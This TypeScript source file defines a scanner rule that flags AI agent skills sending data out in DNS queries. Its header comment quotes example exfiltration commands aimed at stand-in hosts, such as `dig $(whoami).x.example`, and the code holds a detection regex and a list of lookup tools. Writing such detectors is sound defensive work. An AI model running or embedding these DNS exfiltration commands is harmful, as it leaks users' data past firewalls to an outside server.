// Data smuggled out in DNS names: `dig $(whoami).x.example`, `nslookup ${data}.collector.example`,
// `socket.gethostbyname(f"{secret}.x.example")`. DNS leaves through most firewalls and proxies.
// A lookup of a whole name held in one variable (`dig "$DOMAIN"`) carries no data.

import type { Rule } from '../types.ts';
import { commandsNamed, operands } from './common/commands.ts';
import { weigh } from './common/context.ts';
import { exfilSinkOf } from './common/hosts.ts';
import { classifyPath } from './common/sensitive-paths.ts';

/** A name with a computed label in front of a literal domain. */
const dataLabel = /(?:\$\(|`|\$\{?\w+\}?|%\w+%|\{[^}]*\})[^\s]*\.[a-z0-9-]+\.[a-z]{2,}/i;

export const dnsExfil: Rule = {
  meta: {
    id: 'dns-exfil',
    category: 'exfiltration',
    severity: 'high',
    title: 'Sends data in DNS queries',
    description: 'The skill puts run-time data into the labels of a DNS name and looks it up, so the data reaches whoever runs that domain’s name server.',
    references: ['https://attack.mitre.org/techniques/T1048/003/'],
    messages: { dns: 'Looks up a DNS name built from data ({{name}}).' },
  },
  check(facts, context) {
    const reported = new Set<string>();
    for (const n of facts.of('network')) {
      if (n.protocol !== 'dns' || !n.sendsData) continue;
      // A name held whole in one variable (`nslookup "$DOMAIN"`) carries no data of its own.
      if (n.host !== undefined && /^[$%{]/.test(n.host) && !/\.[a-z0-9-]+\.[a-z]{2,}$/i.test(n.host)) continue;
      reported.add(`${n.file}:${n.line}`);
      const oast = exfilSinkOf(n.host, n.url) !== undefined;
      const secret = (n.dataSources ?? []).some((s) => s.kind !== 'env' && s.kind !== 'system-info' && (s.kind !== 'file' || classifyPath(s.path)));
      context.report({ messageId: 'dns', fact: n, severity: weigh(oast || secret ? 'critical' : 'high', n, context.skill), data: { name: n.host ?? n.evidence.slice(0, 60) } });
    }
    for (const cmd of commandsNamed(facts, 'dig', 'nslookup', 'host', 'drill', 'resolve-dnsname')) {
      if (reported.has(`${cmd.file}:${cmd.line}`)) continue;
      const name = operands(cmd).find((a) => dataLabel.test(a));
      if (name) context.report({ messageId: 'dns', fact: cmd, severity: weigh('high', cmd, context.skill), data: { name } });
    }
  },
};
